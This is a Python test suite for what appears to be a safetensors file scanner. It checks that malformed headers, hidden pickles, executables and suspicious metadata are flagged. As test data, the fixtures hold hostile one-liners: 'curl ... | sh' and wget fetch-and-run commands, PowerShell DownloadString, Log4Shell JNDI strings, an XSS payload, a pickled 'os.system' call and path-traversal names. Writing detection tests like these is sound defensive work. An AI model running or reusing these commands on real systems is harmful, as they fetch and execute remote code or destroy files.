"""safetensors: every lie a header can tell, over files of a small writer of our own."""

import contextlib
import json
import pickle
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hauberk.assets.budget import Budget
from hauberk.assets.content import BytesContent
from hauberk.assets.errors import ReadError
from hauberk.assets.identify import identify
from hauberk.assets.tensors.safetensors import read, read_header
from hauberk.core import Asset, Fact, Gap

GOOD: dict[str, Any] = {
    "a": {"dtype": "F32", "shape": [2, 4], "data_offsets": [0, 32]},
    "b": {"dtype": "F32", "shape": [2, 4], "data_offsets": [32, 64]},
}
DATA = bytes(range(1, 65))


def build(header: Any, data: bytes = DATA, *, length: int | None = None) -> bytes:
    """A file of `header` (an object to write as JSON, or bytes) and `data`; `length` is what the length field says."""
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return (len(raw) if length is None else length).to_bytes(8, "little") + raw + data


def one(**fields: Any) -> bytes:
    return build({"w": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 64], **fields}})


def items(data: bytes) -> list[Fact | Asset | Gap]:
    content = BytesContent(data)
    return list(read(Asset("m.safetensors", format="safetensors", name="m.safetensors", content=content), Budget()))


def checks(data: bytes) -> set[str]:
    try:
        return {item.check for item in items(data) if isinstance(item, Fact)}
    except ReadError as error:
        return {error.check}


@pytest.mark.parametrize("dtype", ["F32", "I32", "U32"])
def test_a_good_file_is_quiet(dtype: str) -> None:
    assert checks(build({"w": {"dtype": dtype, "shape": [16], "data_offsets": [0, 64]}, "__metadata__": {"format": "pt"}})) == set()


@pytest.mark.parametrize(
    ("dtype", "shape"),
    [("F8_E4M3", [64]), ("F8_E5M2", [8, 8]), ("F8_E8M0", [64]), ("F4", [128]), ("F6_E2M3", [8, 4]), ("F6_E3M2", [32]), ("C64", [8]),
     ("BOOL", [64]), ("BF16", [32]), ("I64", [8])],
)  # fmt: skip
def test_every_published_dtype_is_known(dtype: str, shape: list[int]) -> None:
    size = 24 if dtype.startswith("F6") else 64
    assert checks(build({"w": {"dtype": dtype, "shape": shape, "data_offsets": [0, size]}}, DATA[:size])) == set()


def test_space_padding_and_empty_tensors_are_quiet() -> None:
    header = {**GOOD, "empty": {"dtype": "F32", "shape": [0, 4], "data_offsets": [64, 64]}}
    assert checks(build(json.dumps(header).encode() + b"     ")) == set()


def test_names_that_only_sound_dangerous_are_quiet() -> None:
    assert checks(build({"os.system": GOOD["a"], "exec.eval.weight": GOOD["b"]})) == set()


def test_the_header_is_there_for_others() -> None:
    header = read_header(BytesContent(build({**GOOD, "__metadata__": {"format": "pt"}})))
    assert [(t.name, t.dtype, t.shape, t.size) for t in header.tensors] == [("a", "F32", (2, 4), 32), ("b", "F32", (2, 4), 32)]
    assert header.metadata == {"format": "pt"}


def changed(name: str, **fields: Any) -> bytes:
    return build({**GOOD, name: {**GOOD[name], **fields}})


# fmt: off
FLAWS: dict[str, tuple[bytes, str]] = {
    "header longer than the file": (build(GOOD, length=10_000), "safetensors.header-length"),
    "header of 2^64-1": (build(GOOD, length=(1 << 64) - 1), "safetensors.header-length"),
    "header of 0": (build(GOOD, length=0), "safetensors.header-length"),
    "one byte": (b"\x01", "safetensors.header-length"),
    "not JSON": (build(b"{nonsense}"), "safetensors.header-json"),
    "not UTF-8": (build(b'{"\xff":1}'), "safetensors.header-json"),
    "an array": (build([1]), "safetensors.header-json"),
    "leading space": (build(b" " + json.dumps(GOOD).encode()), "safetensors.header-json"),
    "padding of NULs": (build(json.dumps(GOOD).encode() + bytes(16)), "safetensors.header-json"),
    "padding of anything": (build(json.dumps(GOOD).encode() + b"#!/bin/sh"), "safetensors.header-json"),
    "key twice": (build(b'{"w":{"dtype":"U8","shape":[64],"data_offsets":[0,64]},"w":{}}'), "safetensors.header-duplicate"),
    "dtype twice": (
        build(b'{"w":{"dtype":"U8","dtype":"I8","shape":[64],"data_offsets":[0,64]}}'),
        "safetensors.header-duplicate",
    ),
    "nested without end": (build(b'{"a":' * 100_000), "safetensors.header-depth"),
    "metadata no strings": (build({**GOOD, "__metadata__": {"x": {"y": 1}}}), "safetensors.metadata-type"),
    "entry with a field of its own": (one(note="x"), "safetensors.entry-extra"),
    "NaN in the header": (build(b'{"w":{"dtype":"U8","shape":[64],"data_offsets":[0,64],"x":NaN}}'), "safetensors.header-json"),
    "half a character in a name": (
        build(b'{"\\ud800":{"dtype":"U8","shape":[64],"data_offsets":[0,64]}}'), "safetensors.tensor-name",
    ),
    "no offsets": (build({"w": {"dtype": "F32", "shape": [16]}}), "safetensors.tensor-entry"),
    "shape no list": (one(shape=16), "safetensors.tensor-entry"),
    "shape of floats": (one(shape=[4.0, 4.0]), "safetensors.tensor-entry"),
    "shape of booleans": (one(shape=[True, 16]), "safetensors.tensor-entry"),
    "shape negative": (one(shape=[-4, -4]), "safetensors.tensor-entry"),
    "offset negative": (one(data_offsets=[-64, 0]), "safetensors.tensor-entry"),
    "three offsets": (one(data_offsets=[0, 32, 64]), "safetensors.tensor-entry"),
    "offsets reversed": (one(data_offsets=[64, 0]), "safetensors.tensor-bounds"),
    "offset behind the file": (one(data_offsets=[0, 640]), "safetensors.tensor-bounds"),
    "offset of 2^63": (one(data_offsets=[0, 1 << 63]), "safetensors.tensor-bounds"),
    "dtype unknown": (one(dtype="Z99"), "safetensors.dtype"),
    "dtype too wide for its bytes": (one(dtype="F64"), "safetensors.tensor-size"),
    "shape overflows": (one(shape=[1 << 32, 1 << 32]), "safetensors.shape"),
    "shape times itemsize overflows": (one(shape=[1 << 62]), "safetensors.tensor-size"),
    "tensors overlap": (changed("b", data_offsets=[16, 48]), "safetensors.tensor-overlap"),
    "hole between tensors": (
        build({**GOOD, "b": {**GOOD["b"], "data_offsets": [48, 80]}}, DATA + bytes(16)),
        "safetensors.tensor-hole",
    ),
    "program in a hole": (
        build({**GOOD, "b": {**GOOD["b"], "data_offsets": [64, 96]}}, DATA[:32] + b"#!/bin/sh\nid".ljust(64)),
        "safetensors.hole-payload",
    ),
    "name is a path": (build({"../../etc/cron.d/x": GOOD["a"], "b": GOOD["b"]}), "safetensors.tensor-name"),
    "name is absolute": (build({"/etc/passwd": GOOD["a"], "b": GOOD["b"]}), "safetensors.tensor-name"),
    "name poisons prototypes": (build({"__proto__": GOOD["a"], "b": GOOD["b"]}), "safetensors.tensor-name"),
    "bytes behind the tensors": (build(GOOD, DATA + b"\x01\x02\x03"), "safetensors.trailing-data"),
    "pickle behind the tensors": (build(GOOD, DATA + pickle.dumps({"a": [1] * 50})), "safetensors.trailing-payload"),
    "old pickle behind the tensors": (build(GOOD, DATA + b"cos\nsystem\n(S'id'\ntR."), "safetensors.trailing-payload"),
    "zip behind the tensors": (build(GOOD, DATA + b"PK\x03\x04" + bytes(40)), "safetensors.trailing-payload"),
    "program behind the tensors": (build(GOOD, DATA + b"\x7fELF\x02\x01\x01" + bytes(60)), "safetensors.trailing-payload"),
    "Windows program behind the tensors": (build(GOOD, DATA + b"MZ\x90\x00" + bytes(100)), "safetensors.trailing-payload"),
    "pickle in a tensor": (
        build({"w": {"dtype": "U8", "shape": [64], "data_offsets": [0, 64]}}, pickle.dumps([1] * 9).ljust(64)),
        "safetensors.tensor-object",
    ),
    "program in a tensor": (build(GOOD, b"\x7fELF\x02\x01\x01" + bytes(57)), "safetensors.tensor-payload"),
    "script in a tensor": (build(GOOD, b"#!/bin/sh\ncurl x|sh\n".ljust(64)), "safetensors.tensor-payload"),
}
# fmt: on


@pytest.mark.parametrize("flaw", FLAWS)
def test_flaw(flaw: str) -> None:
    data, wanted = FLAWS[flaw]
    assert wanted in checks(data)


METADATA = {
    "exec(base64.b64decode('aWQ='))": "metadata.code",
    "import subprocess; subprocess.call(['id'])": "metadata.code",
    "rm -rf /tmp/x && wget http://192.0.2.1/a": "metadata.code",
    "curl -s http://192.0.2.1/a | sh": "metadata.code",
    "<img src=x onerror=alert(1)>": "metadata.code",
    "${jndi:ldap://192.0.2.1/a}": "metadata.code",
    "${${lower:j}ndi:ldap://192.0.2.1/a}": "metadata.code",
    "gASVIwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAhlY2hvIGhplIWUUpQu": "metadata.payload",
    "../../../../etc/passwd": "metadata.deceptive",
    "fine \x1b[2J": "metadata.deceptive",
    "eval(atob('YWxlcnQoMSk='))": "metadata.code",
    "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')": "metadata.code",
    "get it at https://192.0.2.1/install.sh": "metadata.callback",
}


@pytest.mark.parametrize("value", METADATA)
def test_metadata_that_is_no_prose(value: str) -> None:
    assert METADATA[value] in checks(build({**GOOD, "__metadata__": {"note": value}}))


@pytest.mark.parametrize(
    "value",
    [
        "Trained on code; may evaluate(x) poorly. See https://example.org/model/README.md and os.system docs.",
        "a <lora:detail:1> b, curl hair, wget a life",
        '{"resolution": [512, 512], "tags": {"1girl": 3, "eval": 2}}',
        "Apache-2.0",
        "python train.py --exec fast && python eval.py",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    ],
)
def test_prose_is_quiet(value: str) -> None:
    assert checks(build({**GOOD, "__metadata__": {"modelspec.description": value}})) == set()


@pytest.mark.parametrize(
    "piece",
    ["<img ", "<script ", "${", "${a:${", "{{", "rm -f", "curl ", ";  ", "A" * 7 + " ", "../", "eval(", "nc -a ", "https://"],
)
def test_no_metadata_makes_the_reader_slow(piece: str) -> None:
    import time

    data = build({**GOOD, "__metadata__": {"note": piece * (1_000_000 // len(piece))}})
    started = time.process_time()
    checks(data)
    assert time.process_time() - started < 3  # 0.3 s at most when the machine is idle


def test_a_template_in_the_metadata_is_a_member() -> None:
    found = items(build({**GOOD, "__metadata__": {"chat_template": "{{ messages }}"}}))
    assert [(i.name, i.format) for i in found if isinstance(i, Asset)] == [("__metadata__.chat_template", "jinja")]


def test_a_pickle_behind_or_in_the_tensors_is_a_member() -> None:
    made = pickle.dumps({"a": [1] * 50})
    (member,) = [i for i in items(build(GOOD, DATA + made)) if isinstance(i, Asset)]
    assert member.content is not None
    assert member.content.read() == made


def test_names_of_graph_nodes_are_told_from_paths_of_the_system() -> None:
    found = items(build({"/model/layers.0/MatMul_output_0": GOOD["a"], "/etc/cron.d/x": GOOD["b"]}))
    assert [i.attrs["problem"] for i in found if isinstance(i, Fact)] == ["absolute", "path"]


def test_identify_knows_it_without_its_name() -> None:
    assert identify(BytesContent(build(GOOD)), "weights.bin")[0] == "safetensors"
    assert identify(BytesContent(build(GOOD, length=(1 << 64) - 1)), "weights.bin")[0] == "safetensors"


@pytest.mark.parametrize("body", [b"MZ\x00\x00" * 30, b"", pickle.dumps([1, 2]), b"<html>not found</html>"])
@pytest.mark.parametrize("name", ["model.safetensors", "model.gguf"])
def test_what_calls_itself_tensors_is_held_to_it(body: bytes, name: str) -> None:
    assert name.rpartition(".")[2] in identify(BytesContent(body), name)


def test_a_pointer_to_a_file_is_no_false_tensor_file() -> None:
    assert identify(BytesContent(b"version https://git-lfs.github.com/spec/v1\noid sha256:0\n"), "model.safetensors") == ("lfs",)


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_mutations_raise_nothing_else(data: st.DataObject) -> None:
    broken = bytearray(build({**GOOD, "__metadata__": {"format": "pt", "t": "{{ a }}"}}))
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(broken) - 1))
        piece = data.draw(st.binary(min_size=1, max_size=5))
        broken[at : at + len(piece)] = piece
    with contextlib.suppress(ReadError):
        assert len(items(bytes(broken))) < 200


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=5), inner, max_size=4),
    max_leaves=12,
)


@settings(max_examples=200, deadline=None)
@given(st.dictionaries(st.sampled_from(["a", "b", "__metadata__", ""]), _JSON | st.just(GOOD["a"]), max_size=4))
def test_any_json_raises_nothing_else(header: Any) -> None:
    with contextlib.suppress(ReadError):
        items(build(header))
